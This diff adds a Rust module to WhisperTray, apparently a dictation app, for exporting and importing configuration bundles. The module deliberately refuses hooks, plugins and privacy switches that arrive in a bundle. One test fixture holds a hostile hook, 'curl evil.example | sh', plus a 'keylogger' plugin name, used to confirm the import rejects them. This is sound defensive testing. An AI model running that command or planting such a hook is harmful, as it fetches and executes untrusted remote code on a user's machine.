@@ -0,0 +1,414 @@
+//! Configuration bundles
+//!
+//! A bundle is a zip file with the settings, customized modes, rewrite rules
+//! and snippets, so a setup can be moved to another machine or kept with
+//! dotfiles. API keys live in the keyring and are never included. A
+//! `manifest.json` records the bundle format and app version; bundles in a
+//! newer format are refused.
+//!
+//! Machine-specific settings are neither exported nor imported. Hooks,
+//! plugins and the privacy switches are never taken from a bundle either,
+//! since a shared bundle could otherwise run commands on every dictation or
+//! quietly send audio to the cloud.
+
+use crate::error::{AppError, Result};
+use crate::modes::Mode;
+use crate::rewrite::RewriteRule;
+use crate::snippets::Snippet;
+use crate::state::{AppState, Settings};
+use crate::update::compare_versions;
+use serde::{de::DeserializeOwned, Deserialize, Serialize};
+use serde_json::Value;
+use std::cmp::Ordering;
+use std::io::{Read, Seek, Write};
+use zip::write::SimpleFileOptions;
+use zip::{CompressionMethod, ZipArchive, ZipWriter};
+
+/// Bundle format written by this version
+pub const BUNDLE_FORMAT: u32 = 1;
+
+/// Settings that describe this machine rather than the user's preferences
+const MACHINE_SETTINGS: [&str; 18] = [
+    "audio_backend",
+    "caldav_url",
+    "caldav_username",
+    "echo_cancel_source",
+    "input_calibration",
+    "input_device",
+    "input_device_fallbacks",
+    "input_overrides",
+    "jack_ports",
+    "journal_dir",
+    "live_transcript_dir",
+    "matrix_homeserver",
+    "paste_allowed_windows",
+    "paste_backend",
+    "status_file",
+    "stt_server_url",
+    "sync_folder",
+    "whisper_live_url",
+];
+
+/// Settings a bundle may never change: commands run on every dictation,
+/// plugins and the privacy switches
+const PROTECTED_SETTINGS: [&str; 5] = [
+    "enabled_plugins",
+    "hooks",
+    "local_only",
+    "redact_cloud_prompts",
+    "redact_history",
+];
+
+/// Contents of `manifest.json`
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct Manifest {
+    pub format: u32,
+    pub app_version: String,
+    pub created_at: String,
+}
+
+impl Manifest {
+    /// Manifest for a bundle written now by this version
+    pub fn current() -> Self {
+        Self {
+            format: BUNDLE_FORMAT,
+            app_version: env!("CARGO_PKG_VERSION").to_string(),
+            created_at: chrono::Utc::now().to_rfc3339(),
+        }
+    }
+}
+
+/// Everything in a bundle
+#[derive(Debug, Clone)]
+pub struct ConfigBundle {
+    pub manifest: Manifest,
+    /// Shareable settings as JSON (`None` if the bundle has none)
+    pub settings: Option<Value>,
+    pub modes: Vec<Mode>,
+    pub rewrite_rules: Vec<RewriteRule>,
+    pub snippets: Vec<Snippet>,
+}
+
+/// What an import changed
+#[derive(Debug, Clone, Default, Serialize)]
+pub struct ImportReport {
+    pub modes: usize,
+    pub rewrite_rules: usize,
+    pub snippets: usize,
+    /// Compatibility notes and skipped entries
+    pub warnings: Vec<String>,
+}
+
+impl ConfigBundle {
+    pub fn new(
+        settings: Settings,
+        modes: Vec<Mode>,
+        rewrite_rules: Vec<RewriteRule>,
+        snippets: Vec<Snippet>,
+    ) -> Self {
+        Self {
+            manifest: Manifest::current(),
+            settings: shareable_settings(&settings).ok(),
+            modes,
+            rewrite_rules,
+            snippets,
+        }
+    }
+}
+
+/// Write a configuration bundle
+pub fn write_config_bundle<W: Write + Seek>(writer: W, bundle: &ConfigBundle) -> Result<W> {
+    let mut zip = ZipWriter::new(writer);
+    let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
+
+    let mut files = vec![(
+        "manifest.json",
+        serde_json::to_string_pretty(&bundle.manifest)?,
+    )];
+    if let Some(settings) = &bundle.settings {
+        files.push(("settings.json", serde_json::to_string_pretty(settings)?));
+    }
+    files.extend([
+        ("modes.json", serde_json::to_string_pretty(&bundle.modes)?),
+        (
+            "rewrite_rules.json",
+            serde_json::to_string_pretty(&bundle.rewrite_rules)?,
+        ),
+        (
+            "snippets.json",
+            serde_json::to_string_pretty(&bundle.snippets)?,
+        ),
+    ]);
+    for (name, content) in files {
+        zip.start_file(name, options)?;
+        zip.write_all(content.as_bytes())?;
+    }
+
+    Ok(zip.finish()?)
+}
+
+/// Read a JSON file from the archive; `None` if the bundle does not have it
+fn read_entry<R: Read + Seek, T: DeserializeOwned>(
+    archive: &mut ZipArchive<R>,
+    name: &str,
+) -> Result<Option<T>> {
+    let mut file = match archive.by_name(name) {
+        Ok(file) => file,
+        Err(zip::result::ZipError::FileNotFound) => return Ok(None),
+        Err(e) => return Err(e.into()),
+    };
+    let mut content = String::new();
+    file.read_to_string(&mut content)?;
+    Ok(Some(serde_json::from_str(&content)?))
+}
+
+/// Refuse formats newer than this version understands; warn about newer app versions
+pub fn check_manifest(manifest: &Manifest) -> Result<Vec<String>> {
+    if manifest.format > BUNDLE_FORMAT {
+        return Err(AppError::Config(format!(
+            "The bundle was created by WhisperTray {} in a newer format; update to import it",
+            manifest.app_version
+        )));
+    }
+    let mut warnings = Vec::new();
+    if compare_versions(&manifest.app_version, env!("CARGO_PKG_VERSION")) == Some(Ordering::Greater)
+    {
+        warnings.push(format!(
+            "The bundle was created by the newer WhisperTray {}; settings this version does not know are skipped",
+            manifest.app_version
+        ));
+    }
+    Ok(warnings)
+}
+
+/// Read a configuration bundle, refusing formats newer than this version understands
+///
+/// Returns the bundle and compatibility warnings.
+pub fn read_config_bundle<R: Read + Seek>(reader: R) -> Result<(ConfigBundle, Vec<String>)> {
+    let mut archive = ZipArchive::new(reader)?;
+    let manifest: Manifest = read_entry(&mut archive, "manifest.json")?
+        .ok_or_else(|| AppError::Config("Not a configuration bundle".to_string()))?;
+
+    let warnings = check_manifest(&manifest)?;
+
+    let bundle = ConfigBundle {
+        settings: read_entry(&mut archive, "settings.json")?,
+        modes: read_entry(&mut archive, "modes.json")?.unwrap_or_default(),
+        rewrite_rules: read_entry(&mut archive, "rewrite_rules.json")?.unwrap_or_default(),
+        snippets: read_entry(&mut archive, "snippets.json")?.unwrap_or_default(),
+        manifest,
+    };
+    Ok((bundle, warnings))
+}
+
+/// Settings as JSON without the machine-specific and protected ones
+pub fn shareable_settings(settings: &Settings) -> Result<Value> {
+    let mut value = serde_json::to_value(settings)?;
+    if let Some(map) = value.as_object_mut() {
+        for name in MACHINE_SETTINGS.iter().chain(&PROTECTED_SETTINGS) {
+            map.remove(*name);
+        }
+    }
+    Ok(value)
+}
+
+/// `current` with the imported settings applied, except machine-specific and protected ones
+///
+/// Settings missing from `imported` keep their current value. Also returns
+/// the protected settings the import would have changed.
+pub fn merge_settings(imported: &Value, current: &Settings) -> Result<(Settings, Vec<String>)> {
+    let mut merged = serde_json::to_value(current)?;
+    let mut refused = Vec::new();
+    if let (Some(merged), Some(imported)) = (merged.as_object_mut(), imported.as_object()) {
+        for (name, value) in imported {
+            if MACHINE_SETTINGS.contains(&name.as_str()) {
+                continue;
+            }
+            if PROTECTED_SETTINGS.contains(&name.as_str()) {
+                if merged.get(name) != Some(value) {
+                    refused.push(name.clone());
+                }
+                continue;
+            }
+            merged.insert(name.clone(), value.clone());
+        }
+    }
+    Ok((serde_json::from_value(merged)?, refused))
+}
+
+/// Add or replace entries by key, keeping the others in order
+pub fn merge_by<T, K, F>(existing: &mut Vec<T>, imported: Vec<T>, key: F)
+where
+    K: PartialEq,
+    F: Fn(&T) -> K,
+{
+    for item in imported {
+        match existing.iter_mut().find(|e| key(e) == key(&item)) {
+            Some(slot) => *slot = item,
+            None => existing.push(item),
+        }
+    }
+}
+
+/// Bundle the current configuration
+pub fn export(state: &AppState) -> ConfigBundle {
+    let mut modes: Vec<Mode> = state
+        .modes
+        .values()
+        .filter(|mode| crate::modes::is_customized(mode))
+        .cloned()
+        .collect();
+    modes.sort_by(|a, b| a.key.cmp(&b.key));
+    ConfigBundle::new(
+        state.settings.clone(),
+        modes,
+        state.rewrite_rules.clone(),
+        state.snippets.clone(),
+    )
+}
+
+/// Apply a bundle on top of the current configuration
+///
+/// Modes, rules and snippets with the same key, id or name are replaced,
+/// others are kept. Invalid entries are skipped with a warning.
+pub async fn import(
+    state: &mut AppState,
+    bundle: ConfigBundle,
+    mut warnings: Vec<String>,
+) -> Result<ImportReport> {
+    if let Some(settings) = &bundle.settings {
+        let (merged, refused) = merge_settings(settings, &state.settings)?;
+        if !refused.is_empty() {
+            warnings.push(format!(
+                "Not imported, change these yourself if you trust the bundle: {}",
+                refused.join(", ")
+            ));
+        }
+        state.settings = merged;
+        state.save_settings()?;
+    }
+
+    let mut modes = 0;
+    for mode in bundle.modes {
+        let key = mode.key.clone();
+        match state.update_mode(mode).await {
+            Ok(_) => modes += 1,
+            Err(e) => warnings.push(format!("Mode '{}' skipped: {}", key, e)),
+        }
+    }
+
+    let mut rules = Vec::new();
+    for rule in bundle.rewrite_rules {
+        match rule.validate() {
+            Ok(()) => rules.push(rule),
+            Err(e) => warnings.push(format!("Rewrite rule '{}' skipped: {}", rule.pattern, e)),
+        }
+    }
+    let rewrite_rules = rules.len();
+    merge_by(&mut state.rewrite_rules, rules, |rule| rule.id.clone());
+    crate::rewrite::save(&state.rewrite_rules)?;
+
+    let snippets = bundle.snippets.len();
+    merge_by(&mut state.snippets, bundle.snippets, |snippet| {
+        snippet.name.to_lowercase()
+    });
+    crate::snippets::save(&state.snippets)?;
+
+    Ok(ImportReport {
+        modes,
+        rewrite_rules,
+        snippets,
+        warnings,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::io::Cursor;
+
+    #[test]
+    fn test_bundle_roundtrip() {
+        let settings = Settings {
+            language: "de".to_string(),
+            ..Settings::default()
+        };
+        let snippets = vec![Snippet {
+            name: "signature".to_string(),
+            text: "Best,\nAlex".to_string(),
+        }];
+        let bundle = ConfigBundle::new(settings, Vec::new(), Vec::new(), snippets);
+
+        let buffer = write_config_bundle(Cursor::new(Vec::new()), &bundle).unwrap();
+        let (read, warnings) = read_config_bundle(Cursor::new(buffer.into_inner())).unwrap();
+        assert!(warnings.is_empty());
+        let settings = read.settings.unwrap();
+        assert_eq!(settings["language"], "de");
+        assert!(settings.get("hooks").is_none());
+        assert!(settings.get("input_device").is_none());
+        assert_eq!(read.snippets, bundle.snippets);
+        assert_eq!(read.manifest.format, BUNDLE_FORMAT);
+    }
+
+    #[test]
+    fn test_newer_format_refused() {
+        let mut bundle = ConfigBundle::new(Settings::default(), Vec::new(), Vec::new(), Vec::new());
+        bundle.manifest.format = BUNDLE_FORMAT + 1;
+        bundle.manifest.app_version = "99.0.0".to_string();
+        let buffer = write_config_bundle(Cursor::new(Vec::new()), &bundle).unwrap();
+        assert!(read_config_bundle(Cursor::new(buffer.into_inner())).is_err());
+
+        bundle.manifest.format = BUNDLE_FORMAT;
+        let buffer = write_config_bundle(Cursor::new(Vec::new()), &bundle).unwrap();
+        let (_, warnings) = read_config_bundle(Cursor::new(buffer.into_inner())).unwrap();
+        assert_eq!(warnings.len(), 1);
+    }
+
+    #[test]
+    fn test_merge_settings_keeps_machine_settings() {
+        let imported = serde_json::to_value(Settings {
+            input_device: "USB Mic".to_string(),
+            language: "fr".to_string(),
+            ..Settings::default()
+        })
+        .unwrap();
+        let current = Settings {
+            input_device: "Built-in".to_string(),
+            ..Settings::default()
+        };
+        let (merged, _) = merge_settings(&imported, &current).unwrap();
+        assert_eq!(merged.input_device, "Built-in");
+        assert_eq!(merged.language, "fr");
+    }
+
+    #[test]
+    fn test_merge_settings_refuses_protected_settings() {
+        let imported = serde_json::json!({
+            "language": "fr",
+            "local_only": false,
+            "hooks": { "pre_paste": "curl evil.example | sh" },
+            "enabled_plugins": ["keylogger"]
+        });
+        let current = Settings {
+            local_only: true,
+            auto_paste: false,
+            ..Settings::default()
+        };
+        let (merged, mut refused) = merge_settings(&imported, &current).unwrap();
+        refused.sort();
+        assert_eq!(merged.language, "fr");
+        assert!(merged.local_only);
+        assert!(merged.hooks.pre_paste.is_empty());
+        assert!(merged.enabled_plugins.is_empty());
+        // Settings missing from the bundle are left alone
+        assert!(!merged.auto_paste);
+        assert_eq!(refused, ["enabled_plugins", "hooks", "local_only"]);
+    }
+
+    #[test]
+    fn test_merge_by() {
+        let mut existing = vec![("a", 1), ("b", 2)];
+        merge_by(&mut existing, vec![("b", 3), ("c", 4)], |item| item.0);
+        assert_eq!(existing, [("a", 1), ("b", 3), ("c", 4)]);
+    }
+}